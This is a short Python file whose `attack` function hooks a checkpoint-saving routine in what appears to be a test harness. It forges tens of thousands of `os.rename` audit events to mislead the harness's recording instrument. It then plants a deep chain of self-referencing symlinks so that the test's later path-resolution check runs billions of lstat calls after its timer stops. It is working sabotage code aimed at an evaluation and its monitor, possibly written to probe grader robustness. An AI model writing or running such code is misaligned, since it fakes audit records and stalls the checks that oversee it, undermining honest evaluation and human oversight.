import os
import sys

RENAMES = 50_000  # renames reported: about 100 bytes each of the reply's 8 MiB header, two containers each
LINKS = 200  # L0 -> L1/x/x/.../x -> ...: a chain of links, each resolved once per path
STEPS = 2000  # "x/" components in each link's target (x is a link to "."): one lstat each, within PATH_MAX
_done = []  # once per process


def lay_links(folder, links=LINKS, steps=STEPS):
    """In `folder`: x -> ".", and L0 .. L{links-1}, each a link to the next followed by `steps` x's (the last to
    x's alone). Path(folder/L0).resolve() then lstats about links * steps names (1.3 s of CPU here for 200 *
    2000) and finds `folder` itself; pathlib caches nothing between two calls."""
    os.symlink(".", os.path.join(folder, "x"))
    for i in range(links):
        following = f"L{i + 1}/" if i + 1 < links else ""
        os.symlink(following + "x/" * (steps - 1) + "x", os.path.join(folder, f"L{i}"))


def attack(args):
    """save_checkpoint, before its own (the reference's) body: on the first save to a path named checkpoint.pt
    at iteration 3 (test_save_then_load_a_path's), report RENAMES renames of folder/L0 onto "" by raising the
    audit event os.rename itself (the adapter's instrument records each, with the source's real path taken at
    once, while L0 does not exist yet), then lay the chain of links in the checkpoint's folder. The test checks
    that every renamed file was in its folder with Path(src).resolve() for each of them, as root, in the test
    process, after the call's timer has stopped: RENAMES times LINKS * STEPS lstat calls. The body then saves
    honestly."""
    out = args["out"]
    if _done or not isinstance(out, (str, os.PathLike)) or args["iteration"] != 3:
        return
    out = os.fspath(out)
    if os.path.basename(out) != "checkpoint.pt":
        return
    _done.append(True)
    folder = os.path.dirname(os.path.abspath(out))
    source = os.path.join(folder, "L0")
    for _ in range(RENAMES):
        sys.audit("os.rename", source, "", -1, -1)
    lay_links(folder)
